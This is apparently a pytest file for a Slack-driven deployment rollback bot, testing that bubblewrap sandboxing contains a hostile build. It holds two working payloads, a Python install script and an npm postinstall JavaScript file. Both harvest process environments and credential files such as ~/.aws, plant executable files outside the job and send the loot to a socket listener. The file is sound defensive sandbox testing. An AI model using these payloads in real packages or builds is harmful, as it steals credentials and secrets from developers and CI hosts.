"""A rollback's code never touches the bot: attacks mounted by a hostile build, as an attacker would ship
it, against the real engine with its jobs in bubblewrap (fast tier: the build's install step is a script
committed in the target commit, run the way npm runs a package's install script)."""

from __future__ import annotations

import json
import shutil
import socket
import sys
import threading
from pathlib import Path

import git
import pytest

from bot.adapters.sandbox import Sandbox, SandboxUnavailable, choose, hidden_for
from bot.core.config import SandboxMode
from tests.support.fast_service import SERVERLESS_YML, fast_package, handler
from tests.support.gitrepo import ServiceRepo

needs_bwrap = pytest.mark.skipif(choose(SandboxMode.AUTO, [])[0] is None,
                                 reason="bubblewrap cannot run here (./scripts/test installs it on Debian)")

SLACK_TOKEN = "xoxb-test-token-123456"  # the engine factory's bot token
REPO_TOKEN = "ghs_" + "RepoInstallationToken987"

HOSTILE = r'''
import glob, json, os, socket, sys
found = {"environ": {}, "files": {}, "wrote": [], "procs": sorted(p for p in os.listdir("/proc") if p.isdigit())}
for path in glob.glob("/proc/*/environ"):
    try:
        found["environ"][path] = open(path, "rb").read().decode("utf-8", "replace")
    except OSError as exc:
        found["environ"][path] = f"unreadable: {exc}"
here = os.getcwd()
roots = [os.environ.get("HOME", "/"), os.path.expanduser("~/.aws"), "/root", "/home", "/tmp", "/var/lib",
         *[os.path.dirname(here.rsplit("/jobs/", 1)[0] + "/x")]]
for root in roots:
    for dirpath, dirs, files in os.walk(root):
        dirs[:] = [d for d in dirs if d not in ("lib", "include", "share", "site-packages")]  # toolchains
        for name in files[:50]:
            path = os.path.join(dirpath, name)
            try:
                found["files"][path] = open(path, "rb").read(2000).decode("utf-8", "replace")
            except OSError:
                pass
# and try to leave something behind where the next job, or the bot, would run it
for target in sys.argv[2:]:
    try:
        os.makedirs(os.path.dirname(target), exist_ok=True)
        with open(target, "w") as f:
            f.write("#!/bin/sh\necho pwned > /tmp/pwned\n")
        os.chmod(target, 0o755)
        found["wrote"].append(target)
    except OSError as exc:
        found["wrote"].append(f"refused {target}: {exc.__class__.__name__}")
s = socket.create_connection(("127.0.0.1", int(sys.argv[1])), timeout=10)
s.sendall(json.dumps(found).encode())
s.close()
'''


class Listener:
    """What the attacker's server on 127.0.0.1 received."""

    def __init__(self):
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.port = self.sock.getsockname()[1]
        self.got: list[dict] = []
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self):
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            chunks = []
            while chunk := conn.recv(65536):
                chunks.append(chunk)
            conn.close()
            self.got.append(json.loads(b"".join(chunks)))


def hostile_service(root: Path) -> tuple[Path, dict[str, str], dict[str, Path]]:
    """A service whose newer build is fine and whose older build (the rollback's target) ships the attack."""
    work = ServiceRepo(root / "work")
    commits = {"v1": work.commit("Hello v1, with a build script", {
        "serverless.yml": SERVERLESS_YML, "handler.js": handler("v1"), "package.json": "{}",
        "scripts/install.py": HOSTILE})}
    commits["v2"] = work.commit("Make hello say v2", {"handler.js": handler("v2")})
    origin = root / "origin.git"
    git.Repo.clone_from(work.path, origin, bare=True).close()
    return origin, commits, {n: fast_package(root / f"pkg-{n}", n) for n in commits}


def roll_back_to_the_hostile_build(make, engines, data, commits, packages, timeout: float):
    """CI published and deployed v1 then v2; someone rolls prod back to v1, the build with the attack."""
    from tests.support.fast_service import deploy

    try:
        engine = make(data_dir=data)
        for name in ("v1", "v2"):
            engine.artifacts.publish("prod", commits[name], packages[name], build_id=f"b-{name}", author="Ana",
                                     message=name)
            deploy(packages[name])
            engine.artifacts.mark_deployed("prod", commits[name], f"b-{name}", by="ci")
        return engine, engine.jobs.wait(engine.jobs.start(engine.plan("prod", "b-v1"), "U-ANA", "U-BO"),
                                        timeout=timeout)
    finally:
        for e in engines:
            e.jobs.shutdown()


@needs_bwrap
def test_a_hostile_install_script_finds_no_secret_and_leaves_nothing_behind(aws_env, s3, tmp_path, monkeypatch):
    from tests.conftest import engine_factory
    from tests.support.fast_service import DEPLOY_COMMAND

    listener = Listener()
    origin, commits, packages = hostile_service(tmp_path / "svc")
    data = tmp_path / "data"
    cache = data / "plugin-cache"
    mirror_hooks = data / "mirrors"
    outside = tmp_path / "outside" / "planted.sh"
    bot_home = tmp_path / "bot-home"
    (bot_home / ".aws").mkdir(parents=True)
    (bot_home / ".aws" / "credentials").write_text("[default]\naws_secret_access_key = HomeSecretKey42\n")
    make, engines = engine_factory(
        aws_env, tmp_path, origin, ROLLBACK_DEPLOY_COMMAND=DEPLOY_COMMAND,
        ROLLBACK_INSTALL_COMMAND=f"{sys.executable} scripts/install.py {listener.port} {outside} "
                                 f"{data}/planted.sh {cache}/poison/node_modules/x.js "
                                 f"{mirror_hooks}/hooks/post-checkout {sys.prefix}/bin/planted /usr/local/bin/planted",
        ROLLBACK_SANDBOX="required", SLACK_SIGNING_SECRET="signing-secret-abc123", HOME=str(bot_home))
    # the bot's own process has its secrets in its environment, as on a real host
    monkeypatch.setenv("SLACK_BOT_TOKEN", SLACK_TOKEN)
    monkeypatch.setenv("SLACK_SIGNING_SECRET", "signing-secret-abc123")
    _, job = roll_back_to_the_hostile_build(make, engines, data, commits, packages, timeout=120)
    assert job.state == "succeeded", job.reason
    assert len(listener.got) == 1, "the install script ran and reached the network"
    report = listener.got[0]
    seen = json.dumps(report)
    for secret in (SLACK_TOKEN, "signing-secret-abc123", aws_env["AWS_SECRET_ACCESS_KEY"], "HomeSecretKey42"):
        assert secret not in seen, f"the build's install script read {secret!r}"
    assert len(report["procs"]) <= 3, f"it saw other processes: {report['procs']}"  # bwrap, itself
    assert not any("/data/" in p and "/jobs/" not in p for p in report["files"]), "it read the bot's data folder"
    # what the bot and the host run is read-only to it; the rest it wrote into a view that vanished with it
    assert [w for w in report["wrote"] if w.startswith("refused ")] == [
        f"refused {sys.prefix}/bin/planted: OSError", "refused /usr/local/bin/planted: OSError"], report["wrote"]
    assert not Path(sys.prefix, "bin", "planted").exists() and not Path("/usr/local/bin/planted").exists()
    assert not outside.exists() and not (data / "planted.sh").exists()
    assert not (cache / "poison").exists() and not list(data.glob("mirrors/**/post-checkout"))


def test_the_sandbox_never_mounts_the_data_folder_or_the_homes_secrets(tmp_path):
    home = tmp_path / "home"
    (home / "bin").mkdir(parents=True)
    (home / ".pyenv" / "versions" / "3" / "bin").mkdir(parents=True)
    data = tmp_path / "data"
    (data / "jobs" / "1").mkdir(parents=True)
    box = Sandbox("/usr/bin/bwrap", tuple(hidden_for(data, home)))
    env = {"PATH": f"{home}:{home}/.pyenv/versions/3/bin:{data}/bin:/usr/bin", "AWS_SECRET_ACCESS_KEY": "s3cr3t"}
    argv = box.command(["node", "x.js"], cwd=data / "jobs" / "1", writable=data / "jobs" / "1", env=env)
    mounted = [argv[i + 1] for i, a in enumerate(argv) if a in ("--ro-bind", "--bind")]
    assert str(home / ".pyenv" / "versions" / "3") in mounted  # a toolchain under the home is fine…
    assert str(home) not in mounted and str(data) not in mounted  # …the home and the data folder never
    assert str(data / "jobs" / "1") in mounted
    assert "s3cr3t" not in " ".join(argv)  # values reach it through its environment, not its arguments


def test_required_without_bubblewrap_stops_and_says_what_to_install(tmp_path):
    with pytest.raises(SandboxUnavailable) as refused:
        choose(SandboxMode.REQUIRED, [tmp_path], bwrap="")
    assert "apt-get install bubblewrap" in str(refused.value) and "ROLLBACK_SANDBOX=off" in str(refused.value)
    box, warning = choose(SandboxMode.AUTO, [tmp_path], bwrap="")
    assert box is None and "unsandboxed" in warning
    fake = tmp_path / "bwrap"
    fake.write_text("#!/bin/sh\necho 'bwrap: No permissions to create new namespace' >&2\nexit 1\n")
    fake.chmod(0o755)
    with pytest.raises(SandboxUnavailable, match="No permissions to create new namespace"):
        choose(SandboxMode.REQUIRED, [tmp_path], bwrap=str(fake))
    assert shutil.which("true")


def _without_bwrap(tmp_path: Path) -> str:
    """A PATH with git and Python but no bubblewrap, as on a host that lacks the package."""
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir(exist_ok=True)
    for tool in ("git", "python3"):
        (bin_dir / tool).symlink_to(shutil.which(tool))
    return f"{bin_dir}:{Path(sys.executable).parent}"


def test_a_bot_that_requires_the_sandbox_and_has_no_bubblewrap_does_not_start(fast_prod, tmp_path):
    import subprocess

    s = fast_prod.settings
    env = {**s.child_env, "PATH": _without_bwrap(tmp_path), "ROLLBACK_BUCKET": s.bucket, "ROLLBACK_PREFIX": s.prefix,
           "ROLLBACK_REPO": s.repo, "ROLLBACK_DATA_DIR": str(s.data_dir), "ROLLBACK_SERVICE": s.service,
           "ROLLBACK_SANDBOX": "required", "SLACK_BOT_TOKEN": SLACK_TOKEN, "SLACK_SIGNING_SECRET": "s" * 32,
           "SLACK_API_URL": "http://127.0.0.1:9/api/", "ROLLBACK_PORT": "0"}

    def run(*args):
        return subprocess.run([sys.executable, "-m", "bot", *args], env=env, capture_output=True, text=True,
                              timeout=60, stdin=subprocess.DEVNULL)

    served = run("serve")
    assert served.returncode == 2, served.stderr
    assert "ROLLBACK_SANDBOX=required, but" in served.stderr and "Install bubblewrap" in served.stderr
    live = fast_prod.artifacts.read_index("prod").live
    typed = run("rollback", "prod", "previous", "--yes", "--by", "ana")
    assert typed.returncode != 0 and "Install bubblewrap" in typed.stderr
    assert fast_prod.artifacts.read_index("prod").live == live  # nothing was deployed
    assert fast_prod.store.jobs(limit=5) == []


def test_without_a_sandbox_every_plan_and_the_app_home_say_so(make_fast_engine, fast_prod):
    from bot.core.policy import Policy
    from bot.engine import RollbackService
    from bot.slack import blocks as kit

    engine = make_fast_engine(ROLLBACK_SANDBOX="off")
    plan = engine.plan("prod", "previous")
    said = "Jobs run unsandboxed (ROLLBACK_SANDBOX=off): the target's install scripts and plugins run with the " \
           "bot's own rights. Install bubblewrap (docs/security.md)."
    assert [w for w in plan.warnings if "unsandboxed" in w] == [said]
    card = json.dumps(kit.plan_blocks(plan, 1, "U-ANA", 0.0, 0.0), ensure_ascii=False)
    assert "⚠️ Jobs run unsandboxed (ROLLBACK_SANDBOX=off)" in card
    view = RollbackService(engine, Policy()).overview()
    assert view.unsandboxed == said
    home = json.dumps(kit.home_blocks(view.stages, view.jobs, 0.0, unsandboxed=view.unsandboxed), ensure_ascii=False)
    assert "⚠️ Jobs run unsandboxed" in home
    sandboxed = make_fast_engine(ROLLBACK_SANDBOX="auto")
    if sandboxed.shared.sandbox is not None:  # in a sandbox, the cards say nothing about it
        assert not [w for w in sandboxed.plan("prod", "previous").warnings if "unsandboxed" in w]


EVIL_JS = r'''
// what a compromised package's postinstall does: npm runs it (through sh) during `npm ci`
const fs = require("fs"), net = require("net"), os = require("os"), path = require("path");
const found = {environ: {}, files: {}, wrote: [], procs: fs.readdirSync("/proc").filter(p => /^\d+$/.test(p))};
for (const p of found.procs) {
  try { found.environ[p] = fs.readFileSync(`/proc/${p}/environ`, "utf8"); } catch (e) { found.environ[p] = String(e); }
}
const walk = (dir, depth) => {
  if (depth > 4) return;
  let names = [];
  try { names = fs.readdirSync(dir); } catch (e) { return; }
  for (const name of names.slice(0, 200)) {
    const full = path.join(dir, name);
    let st; try { st = fs.lstatSync(full); } catch (e) { continue; }
    if (st.isDirectory() && !["node_modules", "lib", "share", "include"].includes(name)) walk(full, depth + 1);
    else if (st.isFile()) { try { found.files[full] = fs.readFileSync(full, "utf8").slice(0, 2000); } catch (e) {} }
  }
};
for (const root of [os.homedir(), "/root", "/home", "/tmp", path.resolve("../../..")]) walk(root, 0);
for (const target of process.argv.slice(3)) {
  try {
    fs.mkdirSync(path.dirname(target), {recursive: true}); fs.writeFileSync(target, "pwned"); found.wrote.push(target);
  }
  catch (e) { found.wrote.push(`refused ${target}: ${e.code}`); }
}
const s = net.connect(Number(process.argv[2]), "127.0.0.1", () => s.end(JSON.stringify(found)));
'''
EMPTY_LOCK = json.dumps({"name": "hello-service", "version": "1.0.0", "lockfileVersion": 3, "requires": True,
                         "packages": {"": {"name": "hello-service", "version": "1.0.0"}}})


@pytest.mark.e2e
@needs_bwrap
def test_a_real_npm_postinstall_finds_no_secret(aws_env, s3, tmp_path, monkeypatch):
    """The same attack as an npm package ships it: `npm ci` (the bot's own installer for a package-lock.json)
    runs the package's postinstall script, written in JavaScript."""
    if shutil.which("npm") is None:
        pytest.skip("npm is not installed; ./scripts/test installs it (apt-get install nodejs npm)")
    from tests.conftest import engine_factory
    from tests.support.fast_service import DEPLOY_COMMAND

    listener = Listener()
    data = tmp_path / "data"
    work = ServiceRepo(tmp_path / "svc" / "work")
    package_json = json.dumps({"name": "hello-service", "version": "1.0.0", "scripts": {
        "postinstall": f"node evil.js {listener.port} {data}/planted.js /usr/local/bin/planted.js"}})
    commits = {"v1": work.commit("Hello v1", {"serverless.yml": SERVERLESS_YML, "handler.js": handler("v1"),
                                              "package.json": package_json, "package-lock.json": EMPTY_LOCK,
                                              "evil.js": EVIL_JS})}
    commits["v2"] = work.commit("Make hello say v2", {"handler.js": handler("v2")})
    origin = tmp_path / "svc" / "origin.git"
    git.Repo.clone_from(work.path, origin, bare=True).close()
    packages = {n: fast_package(tmp_path / "svc" / f"pkg-{n}", n) for n in commits}
    make, engines = engine_factory(aws_env, tmp_path, origin, ROLLBACK_DEPLOY_COMMAND=DEPLOY_COMMAND,
                                   ROLLBACK_SANDBOX="required", SLACK_SIGNING_SECRET="signing-secret-abc123")
    monkeypatch.setenv("SLACK_BOT_TOKEN", SLACK_TOKEN)
    monkeypatch.setenv("SLACK_SIGNING_SECRET", "signing-secret-abc123")
    engine, job = roll_back_to_the_hostile_build(make, engines, data, commits, packages, timeout=300)
    assert job.state == "succeeded", job.reason
    assert "$ npm ci" in "\n".join(engine.store.output(job.id))
    assert len(listener.got) == 1, "npm ran the postinstall and it reached the network"
    report = listener.got[0]
    seen = json.dumps(report)
    for secret in (SLACK_TOKEN, "signing-secret-abc123", aws_env["AWS_SECRET_ACCESS_KEY"]):
        assert secret not in seen, f"the postinstall read {secret!r}"
    assert not any("AWS_SECRET_ACCESS_KEY" in env for env in report["environ"].values())  # install gets no AWS
    assert len(report["procs"]) <= 6, report["procs"]  # bwrap, npm, sh, node: the job's own, nothing else
    assert "refused /usr/local/bin/planted.js: EROFS" in report["wrote"]  # the system is read-only to it
    assert not (data / "planted.js").exists() and not Path("/usr/local/bin/planted.js").exists()


@needs_bwrap
def test_the_deploys_schema_cache_is_kept_per_account_and_nowhere_else(make_fast_engine, fast_prod):
    """The Serverless CLI's ~/.serverless/artifacts survives a sandboxed deploy (it saves ~2 s a deploy), in the
    folder of the job's own AWS account: what one account's job writes there, no other account's job runs."""
    engine = make_fast_engine(ROLLBACK_SANDBOX="required", SLS_TEST_WRITE_ARTIFACT="validator-1234.js")
    job = engine.jobs.wait(engine.jobs.start(engine.plan("prod", "previous"), "U-ANA", "U-BO"), timeout=120)
    assert job.state == "succeeded", job.reason
    root = engine.settings.data_dir / "plugin-cache"
    own = engine.jobs.plugin_cache.for_account("").root
    assert [p.relative_to(root) for p in root.rglob("validator-1234.js")] == [
        (own / ".serverless-artifacts" / "validator-1234.js").relative_to(root)]
    assert engine.jobs.plugin_cache.for_account("account 222222222222").root != own
    assert not (Path.home() / ".serverless" / "artifacts" / "validator-1234.js").exists()


@needs_bwrap
def test_a_deploy_that_writes_into_node_modules_gets_its_own_copy_when_asked(aws_env, s3, tmp_path):
    """Some plugins patch node_modules while they deploy: read-only (the default) they fail, and say why;
    with ROLLBACK_NODE_MODULES=copy the job gets a real copy, and the cache stays as it was built."""
    from tests.conftest import engine_factory
    from tests.support.fast_service import DEPLOY_COMMAND

    work = ServiceRepo(tmp_path / "svc" / "work")
    commits = {"v1": work.commit("Hello v1", {"serverless.yml": SERVERLESS_YML, "handler.js": handler("v1"),
                                              "package.json": "{}"})}
    commits["v2"] = work.commit("Make hello say v2", {"handler.js": handler("v2")})
    origin = tmp_path / "svc" / "origin.git"
    git.Repo.clone_from(work.path, origin, bare=True).close()
    packages = {n: fast_package(tmp_path / "svc" / f"pkg-{n}", n) for n in commits}
    install = (f"{sys.executable} -c \"import pathlib; p = pathlib.Path('node_modules/plugin'); "
               "p.mkdir(parents=True); (p / 'index.js').write_text('as installed')\"")
    make, engines = engine_factory(aws_env, tmp_path, origin, ROLLBACK_SANDBOX="required",
                                   ROLLBACK_INSTALL_COMMAND=install, ROLLBACK_DEPLOY_COMMAND=DEPLOY_COMMAND,
                                   SLS_TEST_PATCH_NODE_MODULES="1")
    strict, job = roll_back_to_the_hostile_build(make, engines, tmp_path / "strict", commits, packages, 120)
    assert job.state == "failed" and job.reason.startswith("deploy:")
    assert "Read-only file system" in "\n".join(strict.store.output(job.id))
    copied, job = roll_back_to_the_hostile_build(lambda data_dir: make(data_dir=data_dir,
                                                                       ROLLBACK_NODE_MODULES="copy"),
                                                 engines, tmp_path / "copy", commits, packages, 120)
    assert job.state == "succeeded", job.reason
    cached = list((tmp_path / "copy" / "plugin-cache").rglob("plugin/index.js"))
    assert cached and all(p.read_text() == "as installed" for p in cached)
